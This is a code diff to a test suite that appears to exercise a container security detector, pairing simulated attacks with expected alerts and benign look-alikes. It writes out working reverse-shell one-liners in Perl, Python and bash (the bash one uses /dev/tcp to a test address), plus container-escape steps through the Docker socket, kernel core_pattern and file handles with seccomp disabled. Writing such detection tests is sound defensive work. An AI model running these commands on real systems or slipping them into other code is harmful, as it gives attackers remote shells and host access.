@@ -51,6 +51,7 @@ const toListener = (...words: string[]): Play => ({
 const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
 const tokenMount = ['--volume', `/etc/hostname:${token}:ro`];
 const writableTmp = ['--tmpfs', '/tmp:exec'];
+const unmasked = ['--security-opt', 'systempaths=unconfined'];
 const ownNetwork = ['--cap-add', 'NET_ADMIN'];
 const perlShell =
   'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");';
@@ -130,23 +131,33 @@ const attacks: readonly Attack[] = [
   },
   {
     what: 'a reverse shell in a line of Python',
-    attack: toListener('python3', '-c', pythonShell),
+    attack: {
+      ...toListener('sh', '-c', 'exec python3 -c "$LINE"'),
+      options: ['--env', `LINE=${pythonShell}`],
+    },
     expected: ['Reverse shell in one line of a script language', 'Shell on a network connection'],
     by: 'python3 -c import socket',
     twin: python('-c', 'import socket; socket.socket().connect_ex(("127.0.0.1", 8080))'),
   },
   {
     what: 'a reverse shell in a line of Perl',
-    attack: toListener('perl', '-e', perlShell),
+    attack: {
+      ...toListener('sh', '-c', 'exec perl -e "$LINE"'),
+      options: ['--env', `LINE=${perlShell}`],
+    },
     expected: ['Reverse shell in one line of a script language', 'Shell on a network connection'],
     by: 'perl -e use Socket',
     twin: { command: ['perl', '-e', 'use Socket; print inet_aton("127.0.0.1") ? 1 : 0'] },
   },
   {
     what: "a reverse shell of bash's own",
-    attack: toListener('bash', '-c', 'bash -i >& /dev/tcp/127.0.0.2/4444 0>&1'),
-    expected: [],
-    by: '',
+    attack: shell(
+      'ip addr add 203.0.113.5/32 dev lo; python3 /attack/listener.py 4444 bash -c "$LINE"; true',
+      ...ownNetwork,
+      ...['--env', 'LINE=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
+    ),
+    expected: ['Shell told to connect', 'Shell on a network connection'],
+    by: 'bash -c bash -i',
     twin: { command: ['bash', '-c', '</dev/tcp/127.0.0.1/8080'] },
   },
   {
@@ -183,7 +194,10 @@ const attacks: readonly Attack[] = [
   },
   {
     what: "the engine's socket",
-    attack: shell('curl -s --unix-socket /run/docker.sock http://x/version >/dev/null; true'),
+    attack: shell(
+      'curl -s --unix-socket /run/docker.sock http://x/version >/dev/null; true',
+      ...['--volume', '{stage}/docker.sock:/run/docker.sock'],
+    ),
     expected: ['Container engine used from a container'],
     by: 'curl',
     twin: shell('curl -s --unix-socket /run/app.sock http://x/; true'),
@@ -197,10 +211,10 @@ const attacks: readonly Attack[] = [
   },
   {
     what: 'the pattern of core dumps',
-    attack: shell(': >> /proc/sys/kernel/core_pattern; true', '--privileged'),
+    attack: shell(': >> /proc/sys/kernel/core_pattern; true', ...unmasked),
     expected: ['Program of the host named to the kernel from a container'],
     by: 'sh -c',
-    twin: shell('cat /proc/sys/kernel/core_pattern', '--privileged'),
+    twin: shell('cat /proc/sys/kernel/core_pattern', ...unmasked),
   },
   {
     what: 'a device of a disk',
@@ -211,7 +225,10 @@ const attacks: readonly Attack[] = [
   },
   {
     what: 'a file by its handle',
-    attack: shell('/attack/attacker handle /etc/hostname; true', '--cap-add', 'DAC_READ_SEARCH'),
+    attack: shell(
+      '/attack/attacker handle /etc/hostname; true',
+      ...['--cap-add', 'DAC_READ_SEARCH', '--security-opt', 'seccomp=unconfined'],
+    ),
     expected: ['File opened past its path in a container'],
     by: 'attacker handle',
     twin: shell('cat /etc/hostname; true', '--cap-add', 'DAC_READ_SEARCH'),
@@ -411,7 +428,7 @@ const defaultAttacks: readonly DefaultAttack[] = [
   {
     what: 'a connection to an unknown destination',
     attack: shell(
-      'ip addr add 203.0.113.5/32 dev lo; curl -s http://203.0.113.5:8080/; python3 -c \'import socket; s=socket.create_server(("203.0.113.5",81)); socket.create_connection(("203.0.113.5",81))\'; true',
+      'ip addr add 203.0.113.5/32 dev lo; curl -s http://203.0.113.5:8080/; true',
       ...ownNetwork,
       ...shopLabels,
     ),
